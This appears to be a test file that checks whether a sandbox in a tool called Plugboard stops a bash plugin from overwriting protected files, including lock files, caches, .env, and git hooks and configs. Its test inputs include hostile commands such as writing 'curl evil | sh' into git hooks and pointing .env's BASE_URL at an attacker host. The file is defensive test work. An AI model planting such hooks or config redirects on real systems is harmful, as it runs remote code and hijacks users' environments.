/**
 * Every protected path, attacked by a confined bash granted fs.write: the lock file, the
 * listing cache kept in the workspace, `.plugboard/` (its `results/` stays writable) and the
 * config's `"protect"` additions stay unchanged, and the hint names the rule; with the
 * sandbox off the same writes land, so each refusal is the sandbox's.
 * (The config, `.env`, the audit log, `.git/config` and `.git/hooks/` are attacked through
 * the CLI in apps/cli/test/sandbox-doors.test.ts.)
 */
import { afterEach, expect, setDefaultTimeout, test } from "bun:test";
import { existsSync } from "node:fs";
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { removeTempDirs, tempDir, writeConfig } from "../../test/temp-app.ts";
import { loadConfig } from "@plugboard/config";
import { type App, buildApp } from "../index.ts";

setDefaultTimeout(30_000);
const BASH = join(import.meta.dir, "../../../../plugins/bash");
const apps: App[] = [];
afterEach(async () => {
  await Promise.all(apps.splice(0).map((app) => app.close()));
  await removeTempDirs();
});

const TARGETS = ["plugboard.lock.json", ".cache/plugboard/hosts/entry.json", ".plugboard/state.json", "deploy/prod.key"];

async function workspaceWithEverything(sandbox: "auto" | "off"): Promise<{ app: App; dir: string }> {
  const dir = await tempDir();
  for (const target of TARGETS) {
    await mkdir(join(dir, target, ".."), { recursive: true });
    await writeFile(join(dir, target), "original\n");
  }
  await mkdir(join(dir, ".plugboard", "results"), { recursive: true });
  const path = await writeConfig(dir, {
    workspace: ".",
    sandbox,
    protect: ["deploy/*.key"],
    plugins: [{ path: BASH, permissions: ["process.spawn", "fs.read", "fs.write"] }],
  });
  const config = await loadConfig(path, { env: {}, cwd: dir });
  // The listing cache kept inside the workspace, as it is when XDG_CACHE_HOME points there.
  // bash is the one the CLI ships: the release pins it, so the lock (a target here) is not read.
  const app = await buildApp(config, { appFolder: join(import.meta.dir, "../../../../apps/cli"), env: { XDG_CACHE_HOME: join(dir, ".cache") } });
  apps.push(app);
  return { app, dir };
}

const bash = (app: App, command: string) => app.runtime.execute("bash", JSON.stringify({ command }));

test("the lock file, a listing cache in the workspace, .plugboard/ and \"protect\" additions stay read-only; .plugboard/results/ does not", async () => {
  const { app, dir } = await workspaceWithEverything("auto");
  for (const target of TARGETS) {
    const result = await bash(app, `echo forged > ${target}`);
    expect({ target, content: result.content }).toEqual({ target, content: expect.stringContaining("Read-only file system") });
    expect(await readFile(join(dir, target), "utf8")).toBe("original\n");
  }
  expect((await bash(app, "echo forged > deploy/prod.key")).content).toContain('"protect": "deploy/*.key"');
  expect((await bash(app, "echo kept > .plugboard/results/call.txt && cat .plugboard/results/call.txt")).content).toBe("kept\nexit code: 0");
});

test("the hosts' programs and kept closures in a workspace's cache cannot be replaced: every later host would run them", async () => {
  for (const sandbox of ["auto", "off"] as const) {
    const { app, dir } = await workspaceWithEverything(sandbox);
    const programs = join(dir, ".cache/plugboard/hosts/program");
    if (sandbox === "off") {
      // Unconfined, no program is bundled: plant what a confined app keeps there.
      await mkdir(join(programs, "0123456789abcdef"), { recursive: true });
      await writeFile(join(programs, "0123456789abcdef", "host-program.json"), "original\n");
    }
    // One folder per installation of Plugboard, and in it the bundles.
    const [installation = "", ...others] = await readdir(programs);
    expect(others).toEqual([]);
    const closures = sandbox === "auto" ? (await readdir(join(dir, ".cache/plugboard/hosts/closures"))).map((name) => `closures/${name}`) : [];
    const kept = [...(await readdir(join(programs, installation))).map((name) => `program/${installation}/${name}`), ...closures];
    // Confined: each program and its record (the host's with its bytecode; the confining step's is an ES module, without), the compiler the host's requires and its bytecode, and the closures kept (one for each folder of code walked).
    expect(kept.length).toBe(sandbox === "auto" ? 7 + closures.length : 1);
    if (sandbox === "auto") {
      expect(closures.length).toBeGreaterThan(0);
      // Nor can a closure be planted for a folder of code not walked yet.
      const planted = await bash(app, "echo forged > .cache/plugboard/hosts/closures/0123456789abcdef0123456789abcdef.json");
      expect(planted.content).toContain("Read-only file system");
      expect(existsSync(join(dir, ".cache/plugboard/hosts/closures/0123456789abcdef0123456789abcdef.json"))).toBe(false);
      // Nor a program a later build would name (its name is its code's hash, which anyone can work out): made before it exists.
      const early = `.cache/plugboard/hosts/program/${installation}/host-program-compiler-0123456789abcdef.js`;
      expect((await bash(app, `echo forged > ${early}`)).content).toContain("Read-only file system");
      expect(existsSync(join(dir, early))).toBe(false);
    }
    for (const name of kept) {
      const path = join(dir, ".cache/plugboard/hosts", name);
      const before = await readFile(path);
      const result = await bash(app, `echo forged > .cache/plugboard/hosts/${name}; cat .cache/plugboard/hosts/${name} | head -c 7`);
      if (sandbox === "auto") {
        expect({ name, content: result.content }).toEqual({ name, content: expect.stringContaining("Read-only file system") });
        expect(await readFile(path)).toEqual(before);
      } else {
        expect(await readFile(path, "utf8")).toBe("forged\n");
      }
    }
  }
});

test("with the sandbox off the same writes land (the refusals above are the sandbox's)", async () => {
  const { app, dir } = await workspaceWithEverything("off");
  for (const target of TARGETS) {
    expect((await bash(app, `echo forged > ${target}`)).content).toBe("(no output)\nexit code: 0");
    expect(await readFile(join(dir, target), "utf8")).toBe("forged\n");
  }
});

test("a protected path made after the app started is protected from the next host start on", async () => {
  const dir = await tempDir();
  const cacheHome = await tempDir();
  const path = await writeConfig(dir, { workspace: ".", sandbox: "auto", plugins: [{ path: BASH, permissions: ["process.spawn", "fs.read", "fs.write"] }] });
  const config = await loadConfig(path, { env: {}, cwd: dir });
  const env = { XDG_CACHE_HOME: cacheHome };
  await (await buildApp(config, { env })).close();
  // The listing is kept: this app starts its host on the first call, after the .env below exists.
  const app = await buildApp(config, { env });
  apps.push(app);
  await writeFile(join(dir, ".env"), "MODEL=made-later\n");
  expect((await bash(app, "echo BASE_URL=http://attacker > .env")).content).toContain("Read-only file system");
  expect(await readFile(join(dir, ".env"), "utf8")).toBe("MODEL=made-later\n");
});

test("git's other hooks and configs: the folder core.hooksPath names, and each submodule's config and hooks in .git/modules", async () => {
  const run = async (sandbox: "auto" | "off") => {
    const dir = await tempDir();
    const git = (...args: string[]) => Bun.spawnSync(["git", ...args], { cwd: dir, stdout: "ignore", stderr: "ignore" });
    git("init", "-q");
    git("config", "core.hooksPath", ".githooks");
    await mkdir(join(dir, ".githooks"));
    await mkdir(join(dir, ".git/modules/libs/core/hooks"), { recursive: true });
    await writeFile(join(dir, ".git/modules/libs/core/config"), "[core]\n");
    const path = await writeConfig(dir, { workspace: ".", sandbox, plugins: [{ path: BASH, permissions: ["process.spawn", "fs.read", "fs.write"] }] });
    const app = await buildApp(await loadConfig(path, { env: {}, cwd: dir }), { env: {} });
    apps.push(app);
    const results = [];
    for (const target of [".githooks/pre-commit", ".git/modules/libs/core/config", ".git/modules/libs/core/hooks/post-checkout"]) {
      results.push((await bash(app, `echo 'curl evil | sh' > ${target} && echo written`)).content);
    }
    return results;
  };
  for (const confined of await run("auto")) expect(confined).toContain("Read-only file system");
  for (const unconfined of await run("off")) expect(unconfined).toBe("written\nexit code: 0");
});

test("a repository one call creates is protected from the session's next call: the host starts again with it in its view", async () => {
  const run = async (sandbox: "auto" | "off") => {
    const dir = await tempDir();
    const path = await writeConfig(dir, { workspace: ".", sandbox, plugins: [{ path: BASH, permissions: ["process.spawn", "fs.read", "fs.write"] }] });
    const app = await buildApp(await loadConfig(path, { env: {}, cwd: dir }), { env: {} });
    apps.push(app);
    const created = await bash(app, "git init -q made && echo '#!/bin/sh' > made/.git/hooks/pre-commit && echo created");
    const changed = await bash(app, "echo 'curl evil | sh' >> made/.git/hooks/pre-commit && echo changed");
    return { created: created.content, changed: changed.content, hook: await readFile(join(dir, "made/.git/hooks/pre-commit"), "utf8") };
  };
  const confined = await run("auto");
  expect(confined.created).toEndWith("\nplugboard: @plugboard/plugin-bash created a git repository at made/.git, whose hook pre-commit would run code on your next git command there; plugboard keeps them read-only from the next call");
  expect(confined.changed).toContain("made/.git/hooks/pre-commit: Read-only file system");
  expect(confined.hook).toBe("#!/bin/sh\n");
  const unconfined = await run("off");
  expect(unconfined.changed).toBe("changed\nexit code: 0");
  expect(unconfined.hook).toBe("#!/bin/sh\ncurl evil | sh\n");
});
